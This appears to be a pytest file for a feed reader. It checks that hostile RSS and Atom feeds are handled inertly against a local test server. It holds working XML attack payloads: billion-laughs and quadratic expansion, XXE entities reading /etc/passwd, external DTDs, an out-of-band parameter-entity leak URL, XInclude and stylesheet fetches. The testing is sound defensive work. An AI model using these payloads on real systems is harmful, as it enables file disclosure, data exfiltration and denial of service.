"""XML attacks are inert: each feed is served by a real local server and fetched by a real
pass; each gives a stored post set or a clear stored error, quickly, and reads no file and
makes no request the feed asked for."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import FeedServer, Response, Result
from hostile import add, item, rss, run_pass, within
from townsquare.store import Store

LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>'
QUADRATIC = '<!DOCTYPE rss [<!ENTITY a "' + "a" * 50_000 + '">]>'

# (name, prolog, item title, item content, a path on our server the feed tries to load)
ATTACKS = [
    ("billion laughs", BILLION_LAUGHS, "&lol9;", "<p>&lol9;</p>", None),
    ("quadratic blow-up", QUADRATIC, "&a;", "&a;" * 20_000, None),
    (
        "external entity: a file",
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "&xxe;",
        "&xxe;",
        None,
    ),
    (
        "external entity: a URL",
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{base}/xxe.txt">]>',
        "&xxe;",
        "&xxe;",
        "/xxe.txt",
    ),
    (
        "external DTD",
        '<!DOCTYPE rss SYSTEM "{base}/evil.dtd">',
        "&from_dtd;",
        "&from_dtd;",
        "/evil.dtd",
    ),
    (
        "external DTD in a file",
        '<!DOCTYPE rss SYSTEM "{dtd}">',
        "&from_dtd;",
        "&from_dtd;",
        None,
    ),
    (
        "parameter entity from a file",
        '<!DOCTYPE rss [<!ENTITY % local SYSTEM "{dtd}"> %local;]>',
        "&from_dtd;",
        "&from_dtd;",
        None,
    ),
    (
        "public external DTD",
        '<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "{base}/public.dtd">',
        "Plain",
        "Plain",
        "/public.dtd",
    ),
    (
        "parameter entities",
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{base}/param.dtd"> %remote; '
        '<!ENTITY % file SYSTEM "file:///etc/passwd">'
        "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{base}/leak?%file;'>\"> %wrap; %send;]>",
        "&send;",
        "&send;",
        "/param.dtd",
    ),
    (
        "a DOCTYPE that hides a second one",
        '<!DOCTYPE rss [<!ENTITY decoy "]>"> ]>'
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY net SYSTEM "{base}/hidden.txt">]>',
        "&xxe;&net;",
        "&xxe;&net;",
        "/hidden.txt",
    ),
    (
        "XInclude",
        "",
        "Include",
        '</content:encoded><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/><content:encoded>',
        None,
    ),
    (
        "a stylesheet instruction",
        '<?xml-stylesheet type="text/xsl" href="{base}/style.xsl"?>',
        "Styled",
        "Styled",
        "/style.xsl",
    ),
]


def _feed(prolog: str, title: str, content: str, base: str, dtd: str) -> bytes:
    body = (
        f"<item><title>{title}</title><guid>attack</guid>"
        f"<link>https://blog.example/attack</link><description>{content}</description>"
        f'<content:encoded xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://purl.org {base}/schema.xsd">{content}</content:encoded>'
        "</item>" + item(2)
    )
    return rss(body, prolog=prolog.format(base=base, dtd=dtd))


@pytest.mark.parametrize(
    ("prolog", "title", "content", "watched"),
    [a[1:] for a in ATTACKS],
    ids=[a[0] for a in ATTACKS],
)
def test_xml_attack_is_inert(
    server: FeedServer,
    store: Store,
    run: Callable[..., Result],
    tmp_path: Path,
    prolog: str,
    title: str,
    content: str,
    watched: str | None,
) -> None:
    for path in ("/xxe.txt", "/evil.dtd", "/public.dtd", "/param.dtd", "/hidden.txt"):
        server.respond(path, Response(200, b'<!ENTITY from_dtd "PWNED-BY-DTD">'))
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY from_dtd "PWNED-BY-DTD">')
    feed = _feed(prolog, title, content, server.base, dtd.as_uri())
    add(store, server.feed("/feed.xml", feed), "Attacked")

    outcome = within(10, lambda: run_pass(run))

    source = outcome.source("Attacked")
    posts = outcome.posts_of("Attacked")
    stored = repr(posts) + repr(source)
    assert "root:" not in stored  # nothing from /etc/passwd
    assert "PWNED" not in stored  # nothing from a DTD or entity we serve
    assert len(stored) < 200_000  # no expansion
    # Nothing but the feed itself was asked for.
    assert {r.path for r in server.requests} == {"/feed.xml"}
    assert watched is None or server.hits(watched) == []
    # A post set, or a clear error: never silence.
    if source["status"] == "ok":
        assert "Post 2" in [p["title"] for p in posts]
    else:
        assert source["last_error"].startswith("the feed is not readable XML"), source


def test_billion_laughs_in_atom_and_utf16(
    server: FeedServer, store: Store, run: Callable[..., Result]
) -> None:
    atom = (
        '<?xml version="1.0" encoding="utf-16"?>'
        + BILLION_LAUGHS.replace("rss", "feed")
        + '<feed xmlns="http://www.w3.org/2005/Atom"><title>Laughs &lol9;</title>'
        + "<entry><id>urn:1</id><title>&lol9;</title>"
        + '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">&lol9;</div>'
        + "</content></entry></feed>"
    )
    add(store, server.feed("/atom", b"\xff\xfe" + atom.encode("utf-16-le")), "Laughing")
    outcome = within(10, lambda: run_pass(run))
    assert outcome.source("Laughing")["status"] == "ok"
    (post,) = outcome.posts_of("Laughing")
    assert "lollol" not in repr(post)
